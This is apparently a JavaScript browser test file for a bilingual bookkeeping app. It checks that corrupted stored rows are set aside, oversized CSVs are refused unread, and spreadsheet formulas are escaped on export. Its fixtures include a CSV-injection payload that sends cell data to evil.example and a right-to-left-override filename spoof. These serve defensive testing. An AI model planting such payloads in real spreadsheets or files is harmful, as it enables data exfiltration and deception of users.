// Readers that cannot be exhausted or fooled, as a user meets them:
// - A row an earlier build stored from a crafted changes file (a stamp of 19
//   digits, which no build reads back) is written straight into IndexedDB; after
//   a reload the book still opens, a notice names the part set aside, the rest
//   of the book is there, writing goes on, and the book can be backed up.
// - A CSV over the size limit is refused on the CSV and bank pages before a
//   byte of it is read (the file's `arrayBuffer` is never called); a file of
//   300 bad lines lists the first 100 problems and counts the rest; a partner
//   name with a right-to-left override is refused at its cell.
// - A partner and a description that a spreadsheet would run as formulas come
//   out of the journal report's CSV marked with `'`, amounts plain.
// Screens in Japanese and English.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import {
  TEST_TIMEOUT, axeSerious, createBook, newEntry, fillLine, openSession, postEntry, postSimpleEntry, screenshot, sel,
  switchLanguage, trialBalanceText, useApp, waitForApp, waitForText,
} from './harness.mjs';

const env = useApp();

const notice = '[data-testid=set-aside-notice]';

/**
 * Copies a row of the book's tail in IndexedDB under a new id, stamped 10¹⁸ ms
 * (19 digits): what a build that took any stamp stored. Returns the row's key.
 */
async function storeFarFutureRow(page, bookId) {
  return page.evaluate(async (bookId) => {
    const db = await new Promise((ok, ko) => {
      const open = indexedDB.open(`kura-book-${bookId}`);
      open.onsuccess = () => ok(open.result);
      open.onerror = () => ko(open.error);
    });
    const done = (request) => new Promise((ok, ko) => {
      request.onsuccess = () => ok(request.result);
      request.onerror = () => ko(request.error);
    });
    const tx = db.transaction('changes', 'readwrite');
    const rows = await done(tx.objectStore('changes').getAll());
    const set = JSON.parse(rows[rows.length - 1]);
    const [, counter, ...device] = set.stamp.split('-');
    set.stamp = ['1000000000000000000', counter, ...device].join('-');
    // A UUIDv7 id of its own (same time bits, another random tail).
    set.id = `${set.id.slice(0, 24)}${'f'.repeat(12)}`;
    await done(tx.objectStore('changes').put(JSON.stringify(set), set.id));
    db.close();
    return set.id;
  }, bookId);
}

test('readers: a far-future row set aside at open, the book still opens, writes and backs up', { timeout: 3 * TEST_TIMEOUT }, async () => {
  // CSP bypassed only to inject axe-core.
  const s = await openSession(env.browser, env.server, { bypassCSP: true });
  const { page } = s;
  try {
    const bookId = await createBook(page, { name: '読み込み帳簿' });
    await postSimpleEntry(page, { date: '2026-03-01', description: '事務用品', debit: '消耗品費', credit: '現金', amount: '3300' });
    const before = await trialBalanceText(page, bookId, 2026);
    assert.equal(await page.locator(notice).count(), 0, 'no notice for a whole book');

    const key = await storeFarFutureRow(page, bookId);
    await page.goto(`/books/${bookId}/dashboard`);
    await waitForApp(page);
    await waitForText(page, notice, 'この帳簿の一部を読み込めませんでした');
    await waitForText(page, `${notice} li`, `保存された変更 ${key}`);
    await waitForText(page, `${notice} li`, '9999年より後');
    await waitForText(page, sel.openBookName, '読み込み帳簿');
    await screenshot(page, 'readers-set-aside', 'ja');
    await switchLanguage(page, 'en');
    await waitForText(page, notice, 'Part of this book could not be read');
    await waitForText(page, `${notice} li`, `Saved change ${key}: it is dated after the year 9999`);
    await screenshot(page, 'readers-set-aside', 'en');
    assert.deepEqual(await axeSerious(page), [], 'the notice passes axe');
    await switchLanguage(page, 'ja');
    assert.equal(await trialBalanceText(page, bookId, 2026), before, 'the rest of the book is there');

    // Writing goes on around the part set aside, which stays named.
    await postSimpleEntry(page, { date: '2026-03-05', description: '電車代', debit: '旅費交通費', credit: '現金', amount: '480' });
    await page.reload();
    await waitForApp(page);
    await waitForText(page, notice, 'この帳簿の一部を読み込めませんでした');
    assert.match(await trialBalanceText(page, bookId, 2026), /3,780/);

    // The book can be backed up: the backup holds what could be read.
    await page.goto(`/books/${bookId}/data`);
    await waitForApp(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=backup-now]').click()]);
    const bytes = readFileSync(await download.path());
    assert.equal(bytes.subarray(0, 4).toString('latin1'), 'PK\x03\x04', 'a backup file');
    await waitForText(page, sel.toast, 'バックアップを保存しました');
    s.assertClean();
  } finally {
    await s.close();
  }
});

/** Counts every read of a Blob's bytes in the page. */
async function countReads(page) {
  await page.evaluate(() => {
    window.__reads = 0;
    const read = Blob.prototype.arrayBuffer;
    Blob.prototype.arrayBuffer = function (...args) {
      window.__reads += 1;
      return read.apply(this, args);
    };
  });
}

test('readers: a CSV over the size limit is refused before it is read; long problem lists are capped; hidden characters refused', { timeout: 2 * TEST_TIMEOUT }, async () => {
  const s = await openSession(env.browser, env.server);
  const { page } = s;
  try {
    const bookId = await createBook(page, { name: '大きなファイル' });
    const huge = Buffer.alloc(20 * 1024 * 1024 + 1, 'a');

    await page.goto(`/books/${bookId}/csv`);
    await page.locator('[data-testid=csv-page]').waitFor();
    await countReads(page);
    await page.locator('[data-testid=csv-file]').setInputFiles({ name: 'huge.csv', mimeType: 'text/csv', buffer: huge });
    await waitForText(page, '[data-testid=csv-problems] li', 'ファイルが大きすぎます(21.0 MBまで)');
    assert.equal(await page.evaluate(() => window.__reads), 0, 'not a byte read');
    await screenshot(page, 'readers-csv-too-large', 'ja');
    await switchLanguage(page, 'en');
    await waitForText(page, '[data-testid=csv-problems] li', 'The file is too large (at most 21.0 MB).');
    await screenshot(page, 'readers-csv-too-large', 'en');
    await switchLanguage(page, 'ja');

    // 300 lines with a bad date: the first 100 problems, and how many more.
    const header = '伝票番号,日付,勘定科目,借方金額,貸方金額';
    const bad = Array.from({ length: 300 }, (_, n) => `${n + 1},2026-13-45,現金,1000,`);
    await page.locator('[data-testid=csv-file]').setInputFiles({
      name: 'bad.csv', mimeType: 'text/csv', buffer: Buffer.from([header, ...bad].join('\r\n')),
    });
    await page.locator('[data-testid=csv-mapping]').waitFor();
    await page.locator('[data-testid=csv-check]').click();
    await waitForText(page, '[data-testid=csv-problems] li', '…ほかに');
    const listed = await page.locator('[data-testid=csv-problems] li').allInnerTexts();
    assert.equal(listed.length, 101);
    assert.match(listed[100], /^…ほかに\d{3}件の問題があります。$/);
    await switchLanguage(page, 'en');
    await waitForText(page, '[data-testid=csv-problems] li', /^… and \d{3} more problems\.$/);
    await switchLanguage(page, 'ja');

    // A partner name that would show reversed: refused where it is.
    await page.locator('[data-testid=csv-import-kind-partners]').check();
    await page.locator('[data-testid=csv-file]').setInputFiles({
      name: 'partners.csv', mimeType: 'text/csv',
      buffer: Buffer.from('取引先名,得意先\r\nKura Supplies,1\r\n山田\u202e商事 cod.exe,1\r\n'),
    });
    await waitForText(page, '[data-testid=csv-problems] li', '3行目 1列目: 見えない文字方向の制御文字(U+202E)があります');
    await screenshot(page, 'readers-csv-hidden-character', 'ja');
    await switchLanguage(page, 'en');
    await waitForText(page, '[data-testid=csv-problems] li', 'Line 3, column 1: An invisible direction control (U+202E)');
    await screenshot(page, 'readers-csv-hidden-character', 'en');
    await switchLanguage(page, 'ja');

    await page.goto(`/books/${bookId}/bank`);
    await page.locator('[data-testid=bank-file]').waitFor();
    await countReads(page);
    await page.locator('[data-testid=bank-file]').setInputFiles({ name: 'huge.csv', mimeType: 'text/csv', buffer: huge });
    await waitForText(page, '[data-testid=bank-problems] li', 'ファイルが大きすぎます(21.0 MBまで)');
    assert.equal(await page.evaluate(() => window.__reads), 0, 'not a byte read');
    await screenshot(page, 'readers-bank-too-large', 'ja');
    await switchLanguage(page, 'en');
    await waitForText(page, '[data-testid=bank-problems] li', 'The file is too large (at most 21.0 MB).');
    await screenshot(page, 'readers-bank-too-large', 'en');
    s.assertClean();
  } finally {
    await s.close();
  }
});

test('readers: formula-like names come out of a report CSV marked, amounts plain', { timeout: 2 * TEST_TIMEOUT }, async () => {
  const s = await openSession(env.browser, env.server);
  const { page } = s;
  try {
    const bookId = await createBook(page, { name: '数式の帳簿' });
    const partner = '=HYPERLINK("https://evil.example/?d="&A1,"詳細")';
    await newEntry(page, { date: '2026-04-01', description: '@SUM(A1:A9)', partner });
    await fillLine(page, 1, '消耗品費', { debit: '500' });
    await fillLine(page, 2, '現金', { credit: '500' });
    await postEntry(page, '@SUM(A1:A9)');

    await page.goto(`/books/${bookId}/reports/journal?from=2026-01-01&to=2026-12-31`);
    await page.locator('[data-testid=report-journal][aria-current=page]').waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('[data-testid=csv]').click()]);
    const text = readFileSync(await download.path(), 'utf8');
    const lines = text.slice(1).split('\r\n');
    const quoted = `"'${partner.replaceAll('"', '""')}"`;
    const line = lines.find((l) => l.includes('消耗品費'));
    assert.ok(line, text);
    assert.ok(line.includes(`,'@SUM(A1:A9),${quoted},`), `marked: ${line}`);
    assert.match(line, /,消耗品費,500,0?,/, `amounts plain: ${line}`);
    assert.ok(!text.includes(',=HYPERLINK') && !text.includes(',@SUM'), 'never bare');
    s.assertClean();
  } finally {
    await s.close();
  }
});
